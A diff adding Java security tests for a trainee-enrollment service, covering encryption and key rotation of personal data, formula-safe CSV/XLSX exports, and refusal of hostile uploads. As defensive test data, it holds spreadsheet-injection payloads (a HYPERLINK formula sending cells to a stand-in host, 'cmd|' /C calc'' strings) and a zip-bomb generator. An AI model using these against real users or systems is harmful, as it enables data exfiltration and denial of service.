@@ -290,4 +290,266 @@ class PersonalDataTest extends ServiceTestSupport {
         assertThat(mine.path("birthDate").isNull() || mine.path("birthDate").isMissingNode()).isTrue();
         assertThat(mine.path("ageAtEnrollment").isNull() || mine.path("ageAtEnrollment").isMissingNode()).isTrue();
     }
+
+    // ------------------------------------------------------------------------------- at rest
+
+    @Autowired
+    cn.sunshine.enrollment.privacy.PersonalDataKeyProperties keyProperties;
+
+    @Test
+    void recordsOnDiskHoldNoWholeIdOrPhoneAndKeyRotationLosesNone() {
+        List<String> ids = new ArrayList<>();
+        List<String> phones = new ArrayList<>();
+        String[] bc = classWithTrainees(ids, phones, List.of("孙丽华", "郑国强", "冯春梅"));
+        // every document of every collection, as BSON
+        for (String collection : mongo.getCollectionNames()) {
+            for (org.bson.Document d : mongo.getCollection(collection).find()) {
+                String raw = d.toJson();
+                for (int i = 0; i < ids.size(); i++) {
+                    assertThat(raw).as(collection + " on disk").doesNotContain(ids.get(i)).doesNotContain(phones.get(i))
+                            .doesNotContain(ids.get(i).substring(6, 14)).doesNotContain(birth(ids.get(i)));
+                }
+            }
+        }
+        List<org.bson.Document> mine = mongo.getCollection("enrollments").find(new org.bson.Document("classId", bc[1]))
+                .into(new ArrayList<>());
+        assertThat(mine).hasSize(3).allSatisfy(d -> {
+            org.bson.Document t = d.get("trainee", org.bson.Document.class);
+            assertThat(t).doesNotContainKeys("idNumber", "phone", "birthDate", "town", "village");
+            assertThat(t.get("sealed", org.bson.Document.class).getString("kid")).isEqualTo("test-1");
+        });
+        // one record written before sealing (its trainee in the clear): the rotation seals it too
+        String enrollmentId = mine.get(0).getString("_id");
+        cn.sunshine.enrollment.trainee.Trainee t0 = mongo.findById(enrollmentId, Enrollment.class).getTrainee();
+        mongo.getCollection("enrollments").updateOne(new org.bson.Document("_id", enrollmentId), new org.bson.Document("$set",
+                new org.bson.Document("trainee", new org.bson.Document("name", t0.name()).append("gender", t0.gender().name())
+                        .append("idNumber", t0.idNumber()).append("birthDate", t0.birthDate().toString())
+                        .append("ageAtEnrollment", t0.ageAtEnrollment()).append("householdDivision", t0.householdDivision())
+                        .append("town", t0.town()).append("village", t0.village()).append("ruralHousehold", t0.ruralHousehold())
+                        .append("phone", t0.phone()).append("education", t0.education().name()))));
+        assertThat(mongo.findById(enrollmentId, Enrollment.class).getTrainee()).as("read in the clear").isEqualTo(t0);
+
+        String oldKey = keyProperties.currentKey();
+        String newKey = java.util.Base64.getEncoder().encodeToString("rotated-test-kek-0123456789abcde".getBytes(StandardCharsets.US_ASCII));
+        long total = mongo.getCollection("enrollments").countDocuments();
+        try {
+            var rotated = new cn.sunshine.enrollment.privacy.PersonalDataKeys(mongo, new cn.sunshine.enrollment.privacy.SealedTrainees(
+                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-2", Map.of("test-1", oldKey, "test-2", newKey))));
+            var r = rotated.rewrapAll();
+            assertThat(r.sealed()).isEqualTo(1);
+            assertThat(r.after().recordsByKeyId()).containsOnlyKeys("test-2").containsEntry("test-2", total);
+            assertThat(r.after().inTheClear()).isZero();
+            // the old KEK removed: every record still opens, with the new one alone
+            var newOnly = new cn.sunshine.enrollment.privacy.SealedTrainees(
+                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-2", Map.of("test-2", newKey)));
+            var oldOnly = new cn.sunshine.enrollment.privacy.SealedTrainees(
+                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-1", Map.of("test-1", oldKey)));
+            List<String> opened = new ArrayList<>();
+            for (org.bson.Document d : mongo.getCollection("enrollments").find()) {
+                org.bson.Document t = d.get("trainee", org.bson.Document.class);
+                cn.sunshine.enrollment.trainee.Trainee tr = newOnly.open(t);
+                assertThat(ResidentIdNumber.problem(tr.idNumber())).as(d.getString("_id")).isEmpty();
+                opened.add(tr.idNumber());
+                org.junit.jupiter.api.Assertions.assertThrows(IllegalStateException.class, () -> oldOnly.open(t));
+            }
+            assertThat(opened).hasSize((int) total).containsAll(ids);
+        } finally {
+            // back under the tests' KEK, for the other tests of this run
+            var back = new cn.sunshine.enrollment.privacy.PersonalDataKeys(mongo, new cn.sunshine.enrollment.privacy.SealedTrainees(
+                    new cn.sunshine.platform.crypto.EnvelopeCipher("test-1", Map.of("test-1", oldKey, "test-2", newKey))));
+            assertThat(back.rewrapAll().after().recordsByKeyId()).containsOnlyKeys("test-1");
+        }
+        assertThat(mongo.findById(enrollmentId, Enrollment.class).getTrainee()).isEqualTo(t0);
+    }
+
+    // ------------------------------------------------------------------------------- exports
+
+    static final List<String> DANGEROUS = List.of("=", "+", "-", "@", "\t", "\r");
+
+    @Test
+    void aNameBeginningWithAFormulaCharacterComesOutInertInCsvAndXlsx() throws Exception {
+        List<String> ids = new ArrayList<>();
+        List<String> phones = new ArrayList<>();
+        String[] bc = classWithTrainees(ids, phones, List.of("=HYPERLINK(\"http://x/?\"&E3&J3,\"查看\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"));
+        for (String token : List.of(OFFICER, TestTokens.baseStaff(DIVISION, bc[0]))) {
+            HttpResponse<byte[]> csv = get(token, "/api/enrollment/classes/" + bc[1] + "/ledger?format=csv");
+            String raw = new String(csv.body(), StandardCharsets.UTF_8);
+            assertThat(raw).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&E3&J3,\"\"查看\"\")\"", "\"'+1+cmd|' /C calc'!A0\"",
+                    "\"'-2+3\"", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
+            for (List<String> row : RosterReader.readCsv(new java.io.ByteArrayInputStream(csv.body()))) {
+                for (String cell : row) {
+                    assertThat(cn.sunshine.platform.export.SafeCells.dangerous(cell)).as("CSV cell " + cell).isFalse();
+                }
+            }
+            HttpResponse<byte[]> xlsx = get(token, "/api/enrollment/classes/" + bc[1] + "/ledger?format=xlsx");
+            assertXlsxInert(xlsx.body(), 4);
+        }
+        // a tab or a carriage return cannot begin a name (names are trimmed): the writer itself, every character
+        List<List<String>> rows = new ArrayList<>();
+        for (String c : List.of("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) {
+            rows.add(List.of(c + "1+1", "ok", c + "cmd|' /C calc'!A0"));
+        }
+        String csv = new String(cn.sunshine.enrollment.ledger.Sheets.writeCsv(rows), StandardCharsets.UTF_8);
+        for (List<String> row : RosterReader.readCsv(new java.io.ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)))) {
+            assertThat(row.get(0)).startsWith("'");
+            assertThat(row.get(2)).startsWith("'");
+        }
+        assertThat(csv).contains("\"'\t1+1\"", "\"'\r1+1\"", "\"'=1+1\"");
+        assertXlsxInert(cn.sunshine.enrollment.ledger.Sheets.writeXlsx("台帐", rows), 20);
+    }
+
+    private static void assertXlsxInert(byte[] xlsx, int atLeast) throws Exception {
+        int dangerousSeen = 0;
+        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
+            for (var row : wb.getSheetAt(0)) {
+                for (var cell : row) {
+                    assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+                    String v = cell.getStringCellValue();
+                    assertThat(cn.sunshine.platform.export.SafeCells.dangerous(v)).as("XLSX cell " + v).isFalse();
+                    if (v.length() > 1 && v.charAt(0) == '\'' && cn.sunshine.platform.export.SafeCells.dangerous(v.substring(1))) {
+                        dangerousSeen++;
+                    }
+                }
+            }
+        }
+        assertThat(dangerousSeen).isGreaterThanOrEqualTo(atLeast);
+    }
+
+    // ------------------------------------------------------------------------------- uploads
+
+    /** The bound on the service's used heap while it refuses a hostile upload. */
+    static final long HEAP_BOUND = 64L * 1024 * 1024;
+
+    @Test
+    void hostileUploadsAreRefusedEarlyWithA4xxAndTheHeapStaysBounded() throws Exception {
+        String[] bc = classWithTrainees(new ArrayList<>(), new ArrayList<>(), List.of("吴建华"));
+        String staff = TestTokens.baseStaff(DIVISION, bc[0]);
+        String path = "/api/enrollment/classes/" + bc[1] + "/roster";
+
+        byte[] tenMegabytesOfNewlines = new byte[10 * 1024 * 1024];
+        java.util.Arrays.fill(tenMegabytesOfNewlines, (byte) '\n');
+        expectRefused("10 MB of newlines", staff, path, "text/csv", tenMegabytesOfNewlines, "maxBytes");
+
+        byte[] justUnderTheSizeOfNewlines = new byte[cn.sunshine.enrollment.roster.UploadLimits.MAX_BYTES - 16];
+        java.util.Arrays.fill(justUnderTheSizeOfNewlines, (byte) '\n');
+        expectRefused("4 MB of newlines", staff, path, "text/csv", justUnderTheSizeOfNewlines, "maxLines");
+
+        expectRefused("a CSV row of 100,000 commas", staff, path, "text/csv",
+                ("姓名" + ",".repeat(100_000)).getBytes(StandardCharsets.UTF_8), "maxColumns");
+
+        expectRefused("a zip bomb", staff, path, XLSX, zipBomb(), "maxCompressionRatio");
+
+        expectRefused("a cell at column XFD", staff, path, XLSX, cellAtXfd(), "maxColumns");
+
+        // the reader alone, in this thread: what it allocates for the 4 MB of newlines
+        var threads = (com.sun.management.ThreadMXBean) java.lang.management.ManagementFactory.getThreadMXBean();
+        long before = threads.getCurrentThreadAllocatedBytes();
+        org.junit.jupiter.api.Assertions.assertThrows(cn.sunshine.platform.domain.DomainException.class,
+                () -> RosterReader.readCsv(new java.io.ByteArrayInputStream(justUnderTheSizeOfNewlines)));
+        long allocated = threads.getCurrentThreadAllocatedBytes() - before;
+        System.out.printf("upload-heap: reader allocated %.1f MB for 4 MB of newlines%n", allocated / 1048576.0);
+        assertThat(allocated).isLessThan(HEAP_BOUND);
+    }
+
+    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
+
+    private void expectRefused(String what, String token, String path, String type, byte[] body, String limit) throws Exception {
+        var memory = java.lang.management.ManagementFactory.getMemoryMXBean();
+        System.gc();
+        Thread.sleep(200);
+        long base = memory.getHeapMemoryUsage().getUsed();
+        long[] peak = {base};
+        java.util.concurrent.atomic.AtomicBoolean sampling = new java.util.concurrent.atomic.AtomicBoolean(true);
+        Thread sampler = new Thread(() -> {
+            while (sampling.get()) {
+                peak[0] = Math.max(peak[0], memory.getHeapMemoryUsage().getUsed());
+                try {
+                    Thread.sleep(1);
+                } catch (InterruptedException e) {
+                    return;
+                }
+            }
+        });
+        sampler.start();
+        int status;
+        String answer;
+        try {
+            if (body.length > cn.sunshine.enrollment.roster.UploadLimits.MAX_BYTES) {
+                String[] r = expectContinue(token, path, type, body.length);
+                status = Integer.parseInt(r[0]);
+                answer = r[1];
+            } else {
+            HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
+                            URI.create("http://127.0.0.1:" + port + path)).header("Authorization", "Bearer " + token)
+                    .header("Content-Type", type).POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
+                    HttpResponse.BodyHandlers.ofString());
+            status = r.statusCode();
+            answer = r.body();
+            }
+        } finally {
+            sampling.set(false);
+            sampler.join();
+        }
+        long grew = peak[0] - base;
+        System.out.printf("upload-heap: %s -> used heap grew by at most %.1f MB%n", what, grew / 1048576.0);
+        assertThat(status).as(what + ": " + answer).isEqualTo(413);
+        assertThat(answer).contains("urn:sunshine:problem:upload-too-large").contains(limit);
+        assertThat(grew).as(what + ": growth of the used heap").isLessThan(HEAP_BOUND);
+    }
+
+    /**
+     * Sends the headers of a large upload with {@code Expect: 100-continue}, as curl does, and reads the
+     * answer: the service refuses by the Content-Length before asking for the body (the JDK 17 HTTP
+     * client waits for ever on such an answer, hence a socket).
+     */
+    private String[] expectContinue(String token, String path, String type, int length) throws Exception {
+        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
+            socket.setSoTimeout(10_000);
+            String head = "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\nAuthorization: Bearer " + token
+                    + "\r\nContent-Type: " + type + "\r\nContent-Length: " + length + "\r\nExpect: 100-continue\r\n\r\n";
+            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
+            socket.getOutputStream().flush();
+            String response = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+            return new String[]{response.substring(9, 12), response};
+        }
+    }
+
+    private static byte[] zipBomb() throws Exception {
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
+            zip.setLevel(9);
+            entry(zip, "[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
+            entry(zip, "xl/workbook.xml", "<workbook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
+                    + "<sheets><sheet name=\"s\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
+            entry(zip, "xl/_rels/workbook.xml.rels", "<Relationships><Relationship Id=\"rId1\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
+            zip.putNextEntry(new java.util.zip.ZipEntry("xl/worksheets/sheet1.xml"));
+            zip.write("<worksheet><sheetData>".getBytes(StandardCharsets.US_ASCII));
+            byte[] spaces = new byte[1024 * 1024];
+            java.util.Arrays.fill(spaces, (byte) ' ');
+            for (int i = 0; i < 200; i++) { // 200 MB inflated
+                zip.write(spaces);
+            }
+            zip.write("</sheetData></worksheet>".getBytes(StandardCharsets.US_ASCII));
+            zip.closeEntry();
+        }
+        return out.toByteArray();
+    }
+
+    private static void entry(java.util.zip.ZipOutputStream zip, String name, String text) throws Exception {
+        zip.putNextEntry(new java.util.zip.ZipEntry(name));
+        zip.write(text.getBytes(StandardCharsets.UTF_8));
+        zip.closeEntry();
+    }
+
+    private static byte[] cellAtXfd() throws Exception {
+        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(); var out = new java.io.ByteArrayOutputStream()) {
+            var sheet = wb.createSheet("名册");
+            var header = sheet.createRow(0);
+            header.createCell(0).setCellValue("姓名");
+            header.createCell(16383).setCellValue("XFD");
+            wb.write(out);
+            return out.toByteArray();
+        }
+    }
 }
